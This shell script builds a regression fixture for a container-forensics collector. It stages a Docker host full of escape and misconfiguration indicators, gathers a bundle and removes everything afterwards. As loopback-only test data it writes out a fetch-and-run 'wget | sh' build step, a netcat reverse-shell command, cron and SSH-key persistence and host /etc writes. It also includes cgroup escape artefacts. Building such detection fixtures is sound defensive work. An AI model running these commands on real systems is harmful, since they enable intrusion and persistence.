#!/bin/sh
# Builds the docker-host regression bundle: sets up a real dockerd host with one example of
# everything the docker / escape rules look for, runs collect.sh on it, and keeps the bundle as
# test/fixtures/docker-host/cf-bundle-docker-host.tgz. Run as root with dockerd running.
#
# What is staged (all local, no network; nothing privileged is ever started):
#   cf-bundle-web        plain running container from a clean image (must stay below SUSPICIOUS)
#   cf-bundle-target     running root container; a HOST process (sleep) is then moved into its
#                        cgroups — what `nsenter` + cgroup attach leaves behind; a process exec'd
#                        into it is moved OUT of its cgroups; a child cgroup with
#                        notify_on_release=1 is created under it
#   cf-bundle-hostpid    running with --pid=host (host namespace shared, live)
#   cf-bundle-writer     running, writes cron / ssh / binaries into its own filesystem (docker diff)
#   cf-bundle-dropper    created from an image with a malicious build history, reverse-shell cmd
#   cf-bundle-priv, -sock, -hostwrite, -unconfined, -caps, -hostnet   created only (privileged,
#                        docker.sock, host /etc mounted read-write with a cron-writing command,
#                        seccomp off, SYS_ADMIN added, host network + IPC)
#   a second dockerd listening on 127.0.0.1:2375 without TLS, --insecure-registry, --experimental
# Everything is removed afterwards (containers, images, volume, cgroup, second daemon).
set -eu
root=$(cd "$(dirname "$0")/.." && pwd)
out=$root/test/fixtures/docker-host
p=cf-bundle
base=cf-fixture/busybox:1
work=$(mktemp -d)
moved=
d2pid=
docker0_addr=$(ip -o -4 addr show docker0 2>/dev/null | awk '{print $4}' | head -n1)

cleanup() {
  set +e
  for pid in $moved; do kill "$pid" 2>/dev/null; done
  docker ps -aq --filter "name=^$p-" | xargs -r docker rm -f >/dev/null 2>&1
  docker volume rm -f "$p-data" >/dev/null 2>&1
  docker image rm -f "$p/clean:1" "$p/dropper:1" "$p/orphan:1" >/dev/null 2>&1
  rmdir /sys/fs/cgroup/memory/docker/*/"$p-ra" 2>/dev/null
  if [ -n "$d2pid" ]; then kill "$d2pid" 2>/dev/null; sleep 3; fi
  ip link del cfbr0 2>/dev/null
  # a second dockerd must never take the first one's default bridge with it
  if ! ip link show docker0 >/dev/null 2>&1 && [ -n "$docker0_addr" ]; then
    ip link add docker0 type bridge && ip addr add "$docker0_addr" dev docker0 && ip link set docker0 up
  fi
  rm -rf "$work" /tmp/$p-d2 /tmp/$p-d2x
}
trap cleanup EXIT INT TERM
docker image inspect "$base" >/dev/null 2>&1 || sh "$root/scripts/make-docker-fixtures.sh"
cleanup
work=$(mktemp -d)

b() { DOCKER_BUILDKIT=0 docker build -q --network none "$@" >/dev/null 2>"$work/build.err" || { cat "$work/build.err" >&2; exit 1; }; }
mkdir -p "$work/clean" "$work/dropper" "$work/orphan"
printf 'FROM %s\nRUN mkdir -p /app && echo ok > /app/index.txt\nUSER 1000:1000\nCMD ["sleep", "3600"]\n' "$base" >"$work/clean/Dockerfile"
b -t "$p/clean:1" "$work/clean"
printf '#!/bin/sh\necho implant\n' >"$work/dropper/payload.sh"
cat >"$work/dropper/Dockerfile" <<DOCKERFILE
FROM $base
COPY payload.sh /tmp/payload.sh
RUN (wget -q -O- http://127.0.0.1:9/install.sh | sh) || true
RUN mkdir -p /usr/local/bin /opt/drop && cp /tmp/payload.sh /usr/local/bin/kworker && chmod 4755 /usr/local/bin/kworker && chmod 777 /opt/drop && rm -f /tmp/payload.sh
RUN mkdir -p /usr/bin && ln -s /bin/busybox /usr/bin/nc
RUN /bin/busybox dd if=/dev/zero of=/opt/cache.bin bs=1024 count=12288 2>/dev/null
CMD ["/usr/local/bin/kworker"]
DOCKERFILE
b -t "$p/dropper:1" "$work/dropper"
printf 'FROM %s\nLABEL purpose=unused\n' "$base" >"$work/orphan/Dockerfile"
b -t "$p/orphan:1" "$work/orphan"

docker volume create "$p-data" >/dev/null
docker run -d --name "$p-web" "$p/clean:1" >/dev/null
docker run -d --name "$p-target" "$base" sleep 3600 >/dev/null
docker run -d --name "$p-hostpid" --pid=host "$p/clean:1" sleep 3601 >/dev/null
docker run -d --name "$p-writer" -v "$p-data:/srv/data" "$base" sh -c \
  'mkdir -p /etc/cron.d /root/.ssh /tmp; echo "* * * * * root /tmp/.x" > /etc/cron.d/sync; echo key >> /root/.ssh/authorized_keys; cp /bin/busybox /tmp/.x; sleep 3600' >/dev/null
docker create --name "$p-dropper" -v "$p-data:/srv/data" "$p/dropper:1" sh -c 'nc 127.0.0.1 4444 -e /bin/sh' >/dev/null
docker create --name "$p-priv" --privileged "$base" sleep 3600 >/dev/null
docker create --name "$p-sock" -v /var/run/docker.sock:/var/run/docker.sock "$base" sleep 3600 >/dev/null
docker create --name "$p-hostwrite" -v /etc:/host/etc "$base" sh -c 'echo "* * * * * root sh -c id" >> /host/etc/cron.d/cf' >/dev/null
docker create --name "$p-unconfined" --security-opt seccomp=unconfined "$base" sleep 3600 >/dev/null
docker create --name "$p-caps" --cap-add SYS_ADMIN "$base" sleep 3600 >/dev/null
docker create --name "$p-hostnet" --network=host --ipc=host "$p/clean:1" >/dev/null

# The escape artefacts: a host process inside the target's cgroups (every hierarchy), a
# container process taken out of them, a notify_on_release child cgroup under the container.
id=$(docker inspect -f '{{.Id}}' "$p-target")
sleep 3602 &
hostproc=$!
moved="$moved $hostproc"
for d in /sys/fs/cgroup/*/docker/"$id"; do echo "$hostproc" >"$d/cgroup.procs"; done
docker exec -d "$p-target" sleep 3603
sleep 1
escapee=$(ps -eo pid,args | awk '$2 == "sleep" && $3 == "3603" { print $1 }' | head -n1)
for d in /sys/fs/cgroup/*/cgroup.procs; do echo "$escapee" >"$d" 2>/dev/null || true; done
mkdir -p "/sys/fs/cgroup/memory/docker/$id/$p-ra"
echo 1 >"/sys/fs/cgroup/memory/docker/$id/$p-ra/notify_on_release"

# A second dockerd with an unauthenticated TCP API on loopback (as a misconfigured host has on 0.0.0.0).
# Its own bridge (with --bridge none dockerd deletes docker0, which the running dockerd needs).
ip link add cfbr0 type bridge 2>/dev/null || true
ip addr add 169.254.240.1/24 dev cfbr0 2>/dev/null || true
if dockerd --data-root /tmp/$p-d2 --exec-root /tmp/$p-d2x --pidfile /tmp/$p-d2x/docker.pid \
     -H unix:///tmp/$p-d2x/docker.sock -H tcp://127.0.0.1:2375 --bridge cfbr0 --iptables=false --ip-masq=false \
     --insecure-registry 127.0.0.1:5000 --experimental >"$work/dockerd2.log" 2>&1 &
then
  d2pid=$!
  for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
    docker -H unix:///tmp/$p-d2x/docker.sock info >/dev/null 2>&1 && break
    sleep 1
  done
fi

mkdir -p "$work/out"
bundle=$(sh "$root/collect.sh" -o "$work/out" --skip k8s,control-plane,etcd,ebpf --timeout 30 --docker-save "$p/dropper:1" 2>"$work/collect.err" | tail -n1)
mkdir -p "$out"
cp "$bundle" "$out/cf-bundle-docker-host.tgz"
echo "wrote $out/cf-bundle-docker-host.tgz" >&2
